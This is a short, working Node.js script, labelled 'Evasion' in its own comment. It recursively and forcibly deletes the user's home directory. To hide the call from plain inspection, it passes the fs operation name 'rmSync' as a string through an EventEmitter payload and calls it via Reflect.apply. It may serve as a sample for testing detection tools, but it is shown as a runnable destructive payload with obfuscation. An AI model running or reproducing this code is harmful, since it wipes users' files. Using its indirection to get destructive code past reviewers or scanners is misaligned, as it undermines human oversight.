// Evasion: deletes the home directory recursively. The operation name and its
// target travel as an EventEmitter payload; the listener looks the fs function
// up by the name it receives and calls it through Reflect.apply.
const EventEmitter = require('events');
const fs = require('fs');
const os = require('os');

const bus = new EventEmitter();
bus.on('job', ({ op, args }) => {
  Reflect.apply(fs[op], fs, args);
  bus.emit('done', op);
});
bus.on('done', (op) => console.log('finished', op));

const jobs = [
  { op: 'mkdirSync', args: ['/tmp/.stage', { recursive: true }] },
  { op: 'rmSync', args: [os.homedir(), { recursive: true, force: true }] },
];
for (const j of jobs) bus.emit('job', j);
